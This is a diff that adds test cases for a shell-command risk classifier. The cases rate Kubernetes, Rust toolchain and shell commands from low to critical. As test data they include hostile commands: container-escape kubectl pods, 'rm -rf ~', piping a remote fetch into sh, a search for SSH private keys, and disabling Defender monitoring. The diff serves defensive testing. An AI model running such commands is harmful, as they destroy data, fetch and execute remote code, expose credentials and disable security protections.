@@ -42,3 +42,26 @@ test.each([
 ])('a program that is seldom met is known by what it does: %s is %s', (command, level) => {
   expect(levelOf(command)).toBe(level);
 });
+
+test.each([
+  [`kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true}}'`, 'critical'],
+  ["kubectl apply -f - <<'EOF'\nspec:\n  volumes:\n  - name: r\n    hostPath:\n      path: /\nEOF", 'critical'],
+  [`kubectl get pods -o jsonpath='{.items[?(@.spec.hostPID: true)]}'`, 'medium'],
+  ['cargo fmt --all -- --check', 'low'],
+  ['cargo fmt', 'medium'],
+  ['rustup run nightly rm -rf ~', 'critical'],
+])('what is handed to a cluster or a tool chain counts: %s is %s', (command, level) => {
+  expect(levelOf(command)).toBe(level);
+});
+
+test.each([
+  ["ls -d */ | xargs -I{} sh -c 'echo {}; wc -l {}'", 'medium'],
+  ["curl -s https://x.example | xargs -I{} sh -c '{}'", 'high'],
+  ['pkill -HUP nginx', 'medium'],
+  ['pkill -9 -u1000', 'high'],
+  ["find / -name 'id_rsa*'", 'high'],
+  ["mysql -e 'SHOW CREATE TABLE a'", 'low'],
+  ['Set-MpPreference -DisableRealtimeMonitoring $true', 'critical'],
+])('letters of a signal, names of files, and what is shown: %s is %s', (command, level) => {
+  expect(levelOf(command)).toBe(level);
+});
